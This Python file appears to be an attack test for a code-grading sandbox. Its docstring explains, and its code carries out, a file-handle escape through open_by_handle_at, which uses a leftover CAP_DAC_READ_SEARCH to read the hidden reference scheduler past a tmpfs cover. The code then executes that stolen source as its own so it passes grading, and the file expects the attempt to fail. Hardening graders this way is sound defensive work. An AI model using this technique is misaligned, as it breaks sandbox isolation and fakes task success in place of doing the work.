# ruff: noqa
"""Read the hidden project through open_by_handle_at and grade as the reference implementation.

Attack: the child keeps CAP_DAC_READ_SEARCH (to read the interpreter), which is exactly the
capability open_by_handle_at needs. The project directory is only covered by a tmpfs; its
inode is still on the root filesystem. readdir() of /work gives the inode number of the
covered `main` directory, an ext4 file handle is (inode, generation) and generation 0 skips
the generation check, so the submission opens /work/main by handle (any fd on that file
system serves as the mount fd), then impl/scheduler.py relative to it, and runs it as its own.
It has no scheduler of its own.

Expected: score 0 (every workload: "no scheduler of its own"); the handle open must fail
(no CAP_DAC_READ_SEARCH in the child, or the project not reachable by handle); no marker.
"""

from __future__ import annotations

import ctypes
import os

import os as _os

_MARKERS = "/tmp/schedcheck-attack-markers"


def _mark(name: str, text: str = "") -> None:
    """Prove an escape: append a line to a marker file under the shared /tmp (never any other file)."""
    try:
        _os.makedirs(_MARKERS, mode=0o777, exist_ok=True)
        with open(f"{_MARKERS}/{name}.{_os.getpid()}", "a") as f:
            f.write(text[:2000] + "\n")
    except OSError:
        pass


class Sequence:
    """A stand-in, replaced when a stolen scheduler is adopted."""

    def __init__(self, seq_id, prompt_len, max_tokens):
        self.seq_id, self.prompt_len, self.max_tokens, self.output = seq_id, prompt_len, max_tokens, []


class Scheduler:
    """No scheduler of its own: every workload fails unless a stolen one was adopted."""

    def __init__(self, *args, **kwargs):
        raise RuntimeError("no scheduler of its own, and nothing could be stolen")


def _adopt(source: bytes, origin: str) -> bool:
    """Run stolen source in a fresh namespace and take its Scheduler and Sequence."""
    if b"schedcheck-attack" in source or b"class Scheduler" not in source:
        return False
    ns = {"__name__": "stolen_p07_scheduler"}
    try:
        exec(compile(source, origin, "exec"), ns)
    except BaseException:
        return False
    if "Scheduler" not in ns or "Sequence" not in ns:
        return False
    globals().update({k: ns[k] for k in ("Scheduler", "Sequence", "SequenceStatus") if k in ns})
    return True

O_DIRECTORY = 0o200000
PROJECT = ("/work", "main")  # the checkout; every other parent of a project is tried as well


class _Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 8)]


def _steal() -> bool:
    libc = ctypes.CDLL(None, use_errno=True)
    parents = ["/work", "/srv", "/home", "/root", "/opt", "/tmp"]
    for parent in parents:
        try:
            entries = [(e.name, e.inode()) for e in os.scandir(parent) if e.is_dir(follow_symlinks=False)]
        except OSError:
            continue
        for name, inode in entries:
            if inode > 0xFFFFFFFF:
                continue
            handle = _Handle(8, 1)  # FILEID_INO32_GEN: inode, generation (0: not checked by ext4)
            handle.f_handle[:] = list(inode.to_bytes(4, "little") + b"\0\0\0\0")
            mount_fd = os.open("/", os.O_RDONLY | O_DIRECTORY)
            try:
                fd = libc.open_by_handle_at(mount_fd, ctypes.byref(handle), os.O_RDONLY | O_DIRECTORY)
            finally:
                os.close(mount_fd)
            if fd < 0:
                continue
            try:
                for rel in ("impl/scheduler.py", "p07_scheduler.py"):
                    try:
                        src_fd = os.open(rel, os.O_RDONLY, dir_fd=fd)
                    except OSError:
                        continue
                    with os.fdopen(src_fd, "rb") as f:
                        source = f.read(1 << 20)
                    if _adopt(source, f"{parent}/{name}/{rel}"):
                        _mark("read_handle_impl", f"read {parent}/{name}/{rel} by handle ({len(source)} bytes)")
                        return True
            finally:
                os.close(fd)
    return False


_steal()
